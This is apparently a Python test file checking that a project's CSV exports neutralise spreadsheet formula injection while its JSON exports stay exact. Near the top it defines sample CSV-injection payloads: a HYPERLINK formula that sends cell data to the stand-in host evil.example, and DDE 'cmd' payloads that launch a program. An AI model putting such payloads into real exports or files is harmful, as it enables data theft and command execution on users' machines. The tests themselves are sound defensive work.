"""CSV exports are safe to open in a spreadsheet: no cell runs as a formula; JSON stays exact.

Data text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe
in every CSV the project writes (``coalition.export.to_csv``: the pages' downloads and
``python -m coalition export``), as OWASP recommends for CSV injection.
"""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys

import pandas as pd
import pytest

import coalition
from coalition import csvsafe, export
from coalition.paths import PROJECT_ROOT

NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
PAYLOADS = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "conditions": "+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Declined", "a=b", " =1", "", "1-2", 3, -2, 1.5, None, True])
def test_other_cells_are_unchanged(value):
    assert csvsafe.cell(value) == value


@pytest.fixture
def payload_data(scratch):
    scratch.replace('summary: "Spearheads the volunteer coalition together with France."',
                    f"summary: {json.dumps(PAYLOADS['summary'])}")
    scratch.replace('conditions: "Only with a UN resolution."', f"conditions: {json.dumps(PAYLOADS['conditions'])}")
    scratch.replace("title: \"London summit: Starmer names the 'coalition of the willing'\"",
                    f"title: {json.dumps(PAYLOADS['title'])}")
    return scratch


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_stance_and_event_csv_neutralise_formulas_and_the_json_stays_exact(payload_data):
    f = coalition.load_frames(payload_data.path)
    stances, events = export.stance_table(f.stances), export.event_table(f.events)
    rows = _rows(export.to_csv(stances)) + _rows(export.to_csv(events))
    cells = [c for r in rows for c in r.values()]
    for key in ("summary", "conditions", "title"):
        assert "'" + PAYLOADS[key] in cells, key
        assert PAYLOADS[key] not in cells, f"{key} written as a formula"
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_START) and not NUMBER.fullmatch(c)], \
        "no cell starts a formula (a negative number is a number)"
    assert {r["score"] for r in _rows(export.to_csv(stances))} <= {"-2", "-1", "0", "1", "2"}, "numbers stay numbers"
    # JSON: the data exactly as it is
    as_json = json.loads(export.to_json(stances)) + json.loads(export.to_json(events))
    texts = {v for r in as_json for v in r.values() if isinstance(v, str)}
    assert {PAYLOADS["summary"], PAYLOADS["conditions"], PAYLOADS["title"]} <= texts


def test_the_command_line_export_writes_the_same_safe_csv_and_exact_json(payload_data):
    def run(*args):
        r = subprocess.run([sys.executable, "-m", "coalition", "export", "--data", str(payload_data.path), *args],
                           cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        return r.stdout

    cells = [c for r in _rows(run()) for c in r.values()]
    assert "'" + PAYLOADS["summary"] in cells and "'" + PAYLOADS["conditions"] in cells
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_START) and not NUMBER.fullmatch(c)]
    records = json.loads(run("--format", "json"))
    assert PAYLOADS["summary"] in {r["summary"] for r in records}


def test_the_neutralised_frame_is_a_copy():
    df = pd.DataFrame({"a": ["=1", "x"], "n": [-1, 2]})
    out = csvsafe.frame(df)
    assert list(out["a"]) == ["'=1", "x"] and list(out["n"]) == [-1, 2] and list(df["a"]) == ["=1", "x"]
